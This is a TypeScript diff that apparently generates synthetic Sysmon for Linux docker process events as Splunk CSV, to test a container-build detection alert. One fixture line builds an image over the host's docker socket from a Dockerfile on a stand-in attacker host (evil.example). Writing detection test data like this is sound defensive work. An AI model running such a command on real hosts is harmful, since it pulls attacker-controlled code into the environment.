@@ -70,6 +70,70 @@ export interface StreamSpec {
   seed?: number;
 }
 
+const DOCKER_CMDS = [
+  "docker ps -a --format '{{.Names}} {{.Status}}'",
+  "docker inspect --format '{{.State.Health.Status}}' web-1",
+  'docker logs --tail 100 --since 15m api-gateway',
+  'docker pull registry.corp.example/base/alpine:3.19',
+  "docker run --rm -v /srv/backup:/data alpine:3.19 sh -c 'tar czf /data/etc.tgz /etc'",
+  'docker exec -i db-primary psql -U app -c "select 1"',
+  'docker compose -f /srv/app/compose.yml up -d --remove-orphans',
+  'docker stats --no-stream --format json',
+  'docker image prune -f --filter until=168h',
+  'docker network inspect bridge',
+];
+const DOCKER_BUILDS = [
+  'docker build --no-cache -t atomictest_t1612 /tmp/atomictest_t1612',
+  'docker build -t registry.corp.example/app:ci-2231 .',
+  'docker -H unix:///var/run/docker.sock build -f https://evil.example/Dockerfile .',
+];
+const DOCKER_PARENTS: [image: string, cmd: string][] = [
+  ['/usr/bin/bash', '/bin/bash /opt/monitor/check-containers.sh'],
+  ['/usr/bin/python3', '/usr/bin/python3 /opt/ansible/runner.py --limit web'],
+  ['/usr/lib/systemd/systemd', '/usr/lib/systemd/systemd --switched-root --system --deserialize 31'],
+  ['/usr/bin/bash', '-bash'],
+  ['/usr/local/bin/gitlab-runner', '/usr/local/bin/gitlab-runner run --working-directory /home/gitlab-runner'],
+];
+
+const xmlText = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
+
+/** Sysmon for Linux EID 1 as it renders (double-quoted attributes, every field present; cf. the OTRF sample). */
+function linuxSysmonExec(r: () => number, host: string, cmd: string, parent: [string, string], pid: number): string {
+  const guid = () =>
+    '{' +
+    Math.floor(r() * 0xffffffff)
+      .toString(16)
+      .padStart(8, '0') +
+    '-fc0d-627b-4874-61f901560000}';
+  const d = (name: string, v: string) => `<Data Name="${name}">${xmlText(v)}</Data>`;
+  return (
+    `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-27T10:00:00.003485000Z"/><EventRecordID>${pid * 3}</EventRecordID><Correlation/><Execution ProcessID="1590" ThreadID="1590"/><Channel>Linux-Sysmon/Operational</Channel><Computer>${host}</Computer><Security UserId="0"/></System><EventData>` +
+    d('RuleName', '-') +
+    d('UtcTime', '2026-11-27 10:00:00.000') +
+    d('ProcessGuid', guid()) +
+    d('ProcessId', String(pid)) +
+    d('Image', '/usr/bin/docker') +
+    d('FileVersion', '-') +
+    d('Description', '-') +
+    d('Product', '-') +
+    d('Company', '-') +
+    d('OriginalFileName', '-') +
+    d('CommandLine', cmd) +
+    d('CurrentDirectory', r() < 0.5 ? '/home/deploy' : '/srv/app') +
+    d('User', r() < 0.7 ? 'root' : 'deploy') +
+    d('LogonGuid', guid()) +
+    d('LogonId', '0') +
+    d('TerminalSessionId', '4294967295') +
+    d('IntegrityLevel', 'no level') +
+    d('Hashes', '-') +
+    d('ParentProcessGuid', guid()) +
+    d('ParentProcessId', String(pid - 3)) +
+    d('ParentImage', parent[0]) +
+    d('ParentCommandLine', parent[1]) +
+    `</EventData></Event>`
+  );
+}
+
 const FIELDS = [
   '_time',
   'host',
@@ -93,6 +157,85 @@ const FIELDS = [
 const splunkdQuote = (v: string) => (v === '' || /^[A-Za-z0-9]+$/.test(v) ? v : '"' + v.replace(/"/g, '""') + '"');
 const splunkdCsv = (fields: string[], rows: string[][]) =>
   [fields, ...rows].map((r) => r.map(splunkdQuote).join(',') + '\n').join('');
+
+function splunkdRow(
+  chunkIndex: number,
+  i: number,
+  serial: number,
+  host: string,
+  source: string,
+  sourcetype: string,
+  raw: string,
+): string[] {
+  const time = (1764285801 + serial / 1000).toFixed(3);
+  return [
+    time,
+    host,
+    source,
+    sourcetype,
+    'main',
+    'idx1.corp.example',
+    '1',
+    raw,
+    `main~${chunkIndex}~6B3E2A1C-0D9F-4C3B-8E8A-5D7C1F0B9A11`,
+    `${chunkIndex}:${i}`,
+    String(1764285801 + i),
+    String(serial),
+    `idx1.corp.example,main`,
+    sourcetype,
+    raw.replace(/[A-Za-z0-9 ]+/g, '').slice(0, 120),
+  ];
+}
+
+/** Search-time fields a Sysmon add-on extracts from EID 1 (XML key/value), as splunkd sends them. */
+export const SYSMON_FIELDS = [
+  'EventID',
+  'Image',
+  'CommandLine',
+  'CurrentDirectory',
+  'User',
+  'ProcessId',
+  'ParentImage',
+  'ParentCommandLine',
+  'ParentProcessId',
+  'Computer',
+];
+
+function sysmonFieldValues(raw: string): string[] {
+  return SYSMON_FIELDS.map((f) => {
+    const m =
+      f === 'EventID' || f === 'Computer'
+        ? new RegExp(`<${f}>([^<]*)<`).exec(raw)
+        : new RegExp(`<Data Name="${f}">([^<]*)<`).exec(raw);
+    return m ? m[1].replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&') : '';
+  });
+}
+
+/**
+ * The stream the shipped alert sends: its base search keeps only events naming container tooling,
+ * so every event here is a Sysmon for Linux process creation of /usr/bin/docker (`buildRate` of them
+ * builds). With `extracted`, each event also carries the add-on's search-time fields (SYSMON_FIELDS).
+ */
+export function makeEvidenceChunkBody(spec: StreamSpec, chunkIndex: number, extracted = false): string {
+  const r = rng((spec.seed ?? 1612) + chunkIndex * 7919 + 17);
+  const pick = <T>(a: T[]) => a[Math.floor(r() * a.length)];
+  const rows: string[][] = [];
+  for (let i = 0; i < spec.eventsPerChunk; i++) {
+    const build = r() < spec.buildRate;
+    const host = `host${Math.floor(r() * 200)}`;
+    const pid = 1000 + Math.floor(r() * 60000);
+    const serial = chunkIndex * spec.eventsPerChunk + i;
+    const raw = linuxSysmonExec(r, host, build ? pick(DOCKER_BUILDS) : pick(DOCKER_CMDS), pick(DOCKER_PARENTS), pid);
+    const row = splunkdRow(chunkIndex, i, serial, host, 'Linux-Sysmon/Operational', 'sysmon:linux', raw);
+    rows.push(extracted ? [...row, ...sysmonFieldValues(raw)] : row);
+  }
+  const names = extracted ? [...FIELDS, ...SYSMON_FIELDS] : FIELDS;
+  const fields = [...names, ...names.map((f) => '__mv_' + f)];
+  return splunkdCsv(
+    fields,
+    rows.map((row) => [...row, ...names.map(() => '')]),
+  );
+}
 
 /** One execute chunk's CSV body, with splunkd's layout (value columns, then `__mv_` columns) and quoting. */
 export function makeChunkBody(spec: StreamSpec, chunkIndex: number): string {
@@ -132,24 +275,7 @@ export function makeChunkBody(spec: StreamSpec, chunkIndex: number): string {
         `2026-11-27T23:23:21.363760+00:00 ${host} sudo:  alice : TTY=pts/0 ; PWD=${build ? '/tmp' : '/home/alice'} ; USER=root ; COMMAND=/usr/bin/${cmd}` +
         ' '.repeat(Math.floor(r() * 700));
     }
-    const time = (1764285801 + serial / 1000).toFixed(3);
-    rows.push([
-      time,
-      host,
-      source,
-      sourcetype,
-      'main',
-      'idx1.corp.example',
-      '1',
-      raw,
-      `main~${chunkIndex}~6B3E2A1C-0D9F-4C3B-8E8A-5D7C1F0B9A11`,
-      `${chunkIndex}:${i}`,
-      String(1764285801 + i),
-      String(serial),
-      `idx1.corp.example,main`,
-      sourcetype,
-      raw.replace(/[A-Za-z0-9 ]+/g, '').slice(0, 120),
-    ]);
+    rows.push(splunkdRow(chunkIndex, i, serial, host, source, sourcetype, raw));
   }
   const fields = [...FIELDS, ...FIELDS.map((f) => '__mv_' + f)];
   return splunkdCsv(
